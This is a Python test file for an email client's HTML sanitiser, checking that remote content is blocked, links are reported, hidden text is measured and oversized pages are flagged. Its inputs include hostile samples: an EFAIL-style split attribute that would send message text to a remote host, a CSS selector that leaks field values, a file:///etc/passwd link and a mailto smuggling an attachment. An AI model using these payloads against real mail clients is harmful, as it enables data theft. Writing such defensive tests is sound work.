"""What is known of a page before it is shown."""

import pytest

from deskapp.adapters.mail.html.safe_page import safe_page
from deskapp.adapters.mail.html.sanitise import sanitise
from deskapp.domain.mail.page_facts import PageLink

WEB = "https://bilder.example"


@pytest.mark.fault("HTM-01")
def test_remote_pictures_are_numbered_in_their_order_each_once_over_all_parts() -> None:
    page = safe_page(
        [f'<img src="{WEB}/a.png"><img src="{WEB}/b.png">', f'<img src="{WEB}/a.png" alt="A">']
    )
    assert page.html == '<img src="remote:0"><img src="remote:1">\n<img alt="A" src="remote:0">'
    assert page.facts.remote_pictures == (f"{WEB}/a.png", f"{WEB}/b.png")
    assert sanitise(page.html) == page.html


@pytest.mark.fault("HTM-01")
@pytest.mark.parametrize(
    "tag",
    [
        f'<img src="{WEB}/p.gif" width="1" height="1">',
        f'<img src="{WEB}/p.gif" height=0>',
        f'<img srcset="{WEB}/p.gif 2x">',
        f'<picture><source srcset="{WEB}/p.webp"></picture>',
        f'<video poster="{WEB}/p.png"></video>',
        f'<table background="{WEB}/p.png"><tr><td>x</table>',
        f"<style>@import url({WEB}/a.css); @font-face {{src: url({WEB}/f.woff)}}</style>",
        f'<link rel="preload" href="{WEB}/a.css">',
        f'<iframe src="{WEB}/"></iframe><object data="{WEB}/o"></object><embed src="{WEB}/e">',
        f'<p style="background:url({WEB}/p.png)">x</p>',
        '<img src="//bilder.example/p.png">',
    ],
)
def test_everything_else_from_elsewhere_is_counted_and_never_offered(tag: str) -> None:
    facts = safe_page([tag]).facts
    assert facts.remote_pictures == ()
    assert facts.blocked >= 1


@pytest.mark.fault("HTM-01")
@pytest.mark.parametrize(
    "tag",
    [
        f'<meta http-equiv="refresh" content="0; url={WEB}/">',
        f'<base href="{WEB}/"><a href="x">x</a>',
        f'<form action="{WEB}/"><input type="image" src="cid:x"></form>',
        f'<link rel="dns-prefetch" href="{WEB}">',
    ],
)
def test_nothing_that_would_lead_away_by_itself_is_left(tag: str) -> None:
    page = safe_page([tag])
    assert "bilder.example" not in page.html
    assert page.facts.remote_pictures == ()


def test_there_are_only_so_many_remote_pictures() -> None:
    page = safe_page([f'<img src="{WEB}/{n}.png">' for n in range(700)])
    assert len(page.facts.remote_pictures) == 500
    assert page.html.count("<img") == 500


@pytest.mark.fault("HTM-07")
def test_a_part_cannot_swallow_the_one_behind_it() -> None:
    """What EFAIL did: an attribute that one part opens and the next one closes."""
    page = safe_page([f'<p>a</p><img src="{WEB}/?', "<p>the secret</p>", '"><p>b</p>'])
    assert "<p>the secret</p>" in page.html
    assert page.facts.remote_pictures == ()


@pytest.mark.fault("HTM-07")
def test_style_sheets_cannot_tell_what_a_field_holds() -> None:
    styles = f"<style>input[value^=a]{{background:url({WEB}/a)}}</style>"
    page = safe_page([f'{styles}<p style="background:url({WEB}/?x)" class="a" id="b">x</p>'])
    assert page.html == "<p>x</p>"


@pytest.mark.fault("HTM-10")
def test_links_are_told_with_their_words_and_with_what_they_wanted() -> None:
    facts = safe_page(
        [
            f'<a href="{WEB}/x">  our <b>plan</b>\n</a><a href="file:///etc/passwd">no</a>',
            '<a href="mailto:a@b.example?bcc=c@d.example&attach=/x&subject=Hi">write</a>',
        ]
    ).facts
    assert facts.links == (
        PageLink("our plan", f"{WEB}/x"),
        PageLink("write", "mailto:a@b.example?subject=Hi", ("bcc", "attach")),
    )


@pytest.mark.fault("HTM-13")
@pytest.mark.parametrize(
    ("page", "percent"),
    [
        ("<p>abcd</p>", 0),
        ('<p>ab</p><p style="display:none">abcdef</p>', 75),
        ('<p>ab</p><p style="color:#fff">ab</p>', 50),
        ('<p>ab</p><p style="color: #FEFEFE; font-weight:bold">ab</p>', 50),
        ('<div bgcolor="#000000">ab<font color="black">cd</font></div>', 100),
        ('<div style="background:#036"><p style="color:white">abcd</p></div>', 0),
        ('<p>ab</p><span style="font-size:0">ab</span>', 50),
        ('<p>ab</p><span style="font-size: 1px">ab</span>', 50),
        ('<p style="font-size:10px">ab</p>', 0),
        ('<p style="font-size:0.9em">ab</p>', 0),
        ('<p>ab</p><div style="mso-hide:all">ab</div>', 50),
        ('<p>ab</p><div style="position:absolute;left:-9999px">ab</div>', 50),
        ("ab\u200b\u200c", 50),
        ('<p style="color:rgb(255, 255, 255)">ab</p>', 100),
        ('<p style="color:transparent">ab</p>', 100),
        ('<p style="color:currentcolor">ab</p>', 0),
        ("<style>abcdefgh</style><!-- abcdefgh -->ab", 0),
        ("</p></div>ab", 0),
        ("", 0),
    ],
)
def test_hidden_text_is_measured(page: str, percent: int) -> None:
    assert safe_page([page]).facts.hidden_percent == percent


@pytest.mark.fault("HTM-05")
@pytest.mark.parametrize(
    "page",
    [
        "<table><tr><td>a<td>b" * 8 + "</table>" * 8 + "<p>x",
        "<p>Ein ganz gewöhnlicher Absatz.</p>" * 500,
        "<table>" + "<tr><td>a<td>b<td>c" * 300 + "</table>",
        "<ul>" + "<li>x" * 500,
        "<p>Ein Absatz,\nüber zwei Zeilen geschrieben.</p>\n" * 2_000,
    ],
)
def test_usual_pages_are_not_large(page: str) -> None:
    assert not safe_page([page]).facts.is_large


@pytest.mark.fault("HTM-05")
@pytest.mark.parametrize(
    "page",
    [
        ("<table><tr><td>a<td>b" * 8 + "</table>" * 8) * 50,
        "<table>" + "<tr><td>a<td>b<td>c" * 5_000 + "</table>",
        "<ul>" + "<li>x" * 15_000,
        "x" * 1_000_000,
        "&amp;" * 500_000,
        "<b>x</b> " * 20_000,
        "<pre>" + "x\n" * 16_000,
    ],
)
def test_pages_that_would_stop_the_window_are_large(page: str) -> None:
    assert safe_page([page]).facts.is_large
